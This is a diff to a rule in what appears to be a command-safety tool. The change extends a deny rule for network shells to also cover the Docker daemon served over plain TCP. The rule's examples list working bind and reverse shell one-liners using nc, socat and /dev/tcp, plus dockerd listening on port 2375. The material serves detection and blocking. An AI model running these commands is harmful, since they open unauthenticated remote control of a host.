@@ -227,19 +227,19 @@ export const remoteCode: BuiltinRule[] = [
     id: 'remote.network-shell',
     pack: 'remote-code',
     level: 'deny',
-    reason: 'ties a shell or another program to a network socket (a bind or reverse shell): whoever connects runs commands as this user, unauthenticated and unlogged',
+    reason: 'ties a shell or another program to a network socket (a bind or reverse shell, the Docker API served on TCP without TLS): whoever connects runs commands as this user, unauthenticated and unlogged',
     alternative: 'use ssh, which authenticates and records who connects',
-    match: {program: [...netcats, 'socat', ...shells]},
+    match: {program: [...netcats, 'socat', 'dockerd', ...shells]},
     check: networkShell,
     examples() {
       return {
         refuse: [
           'nc -lvnp 4444 -e /bin/bash', 'ncat --exec /bin/sh -l 4444', 'nc 10.0.0.1 4444 -e /bin/sh', "ncat -l 4444 --sh-exec 'bash -i'", 'nc.traditional -c /bin/sh 10.0.0.1 4444', 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash',
-          'socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr', "socat OPENSSL:10.0.0.1:443,verify=0 SYSTEM:'bash -li'", 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'sh -i < /dev/tcp/10.0.0.1/4444 > /dev/tcp/10.0.0.1/4445',
+          'socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr', "socat OPENSSL:10.0.0.1:443,verify=0 SYSTEM:'bash -li'", 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'sh -i < /dev/tcp/10.0.0.1/4444 > /dev/tcp/10.0.0.1/4445', 'dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375', 'dockerd --host=tcp://10.0.0.5:2375',
         ],
         allow: [
           'nc -zv db.internal 5432', 'nc -l 8080 > ./upload.bin', 'socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80', 'socat - TCP:localhost:6379', "timeout 1 bash -c '</dev/tcp/db.internal/5432'", 'echo ping > /dev/tcp/127.0.0.1/9000',
-          'socat EXEC:./report.sh FILE:./report.txt,create', 'ncat --help',
+          'socat EXEC:./report.sh FILE:./report.txt,create', 'ncat --help', 'dockerd -H unix:///var/run/docker.sock', 'dockerd --tlsverify --tlscacert=ca.pem --tlscert=cert.pem --tlskey=key.pem -H tcp://0.0.0.0:2376', 'dockerd -H tcp://127.0.0.1:2375',
         ],
       };
     },
